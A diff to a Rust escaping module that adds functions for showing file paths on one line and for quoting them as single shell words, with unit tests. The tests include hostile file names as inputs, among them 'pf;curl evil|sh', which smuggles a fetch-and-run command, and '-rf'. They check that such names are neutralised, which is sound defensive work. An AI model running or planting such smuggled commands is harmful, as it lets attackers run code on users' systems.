@@ -3,6 +3,7 @@
 
 use std::borrow::Cow;
 use std::fmt::Write;
+use std::path::Path;
 
 /// Text of any number of lines; tabs stay as well.
 pub fn text(text: &str) -> Cow<'_, str> {
@@ -12,6 +13,21 @@ pub fn text(text: &str) -> Cow<'_, str> {
 /// Text in one line: line ends are written out too, as `\n`.
 pub fn line(text: &str) -> Cow<'_, str> {
     shown(text, is_obeyed, |out, c| out.extend(c.escape_default()))
+}
+
+/// The name of a file or a folder in a line.
+pub fn path(path: &Path) -> String {
+    line(&path.display().to_string()).into_owned()
+}
+
+/// The same as a word of a shell's command.
+pub fn word(path: &Path) -> String {
+    let path = self::path(path);
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "/._-+:@%=".contains(c);
+    match !path.is_empty() && !path.starts_with('-') && path.chars().all(is_plain) {
+        true => path,
+        false => format!("'{}'", path.replace('\'', r"'\''")),
+    }
 }
 
 /// A JSON document: only strings hold such characters, and there they have escapes of JSON.
@@ -52,6 +68,15 @@ mod tests {
         assert_eq!(text("a\x1b]0;b\x07\n\tc\r"), "a\\u{1b}]0;b\\u{7}\n\tc\\r");
         assert_eq!(line("a\nb\u{9b}\u{7f}\u{202e}\u{2066}\u{2028}"), "a\\nb\\u{9b}\\u{7f}\\u{202e}\\u{2066}\\u{2028}");
         assert!(matches!(text("Größe 5 × 3 → 中文 👩‍🔬"), Cow::Borrowed(_)));
+    }
+
+    #[test]
+    fn a_name_is_one_line_and_one_word() {
+        assert_eq!(path(Path::new("a\nhint: b")), "a\\nhint: b");
+        assert_eq!(word(Path::new("runs/2026-11-26_a.b")), "runs/2026-11-26_a.b");
+        assert_eq!(word(Path::new("pf;curl evil|sh")), "'pf;curl evil|sh'");
+        assert_eq!(word(Path::new("it's")), r"'it'\''s'");
+        assert_eq!(word(Path::new("-rf")), "'-rf'");
     }
 
     #[test]
